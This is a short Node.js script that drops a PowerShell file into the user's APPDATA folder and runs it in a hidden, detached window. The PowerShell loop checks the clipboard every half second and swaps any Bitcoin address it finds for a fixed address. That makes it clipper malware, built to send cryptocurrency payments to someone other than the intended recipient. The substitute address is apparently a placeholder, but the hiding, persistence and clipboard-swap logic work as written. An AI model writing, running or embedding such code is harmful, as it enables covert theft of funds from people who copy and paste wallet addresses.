const { spawn } = require('child_process')
const fs = require('fs')
const place = require('path').join(process.env.APPDATA || '.', 'clip.ps1')

fs.writeFileSync(place, `while($true){$c=Get-Clipboard;if($c -match '^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$'){Set-Clipboard -Value 'bc1qinertinertinertinertinertinertiner'};Start-Sleep -Milliseconds 500}`)
spawn('powershell.exe', ['-WindowStyle', 'Hidden', '-File', place], { detached: true, stdio: 'ignore' }).unref()
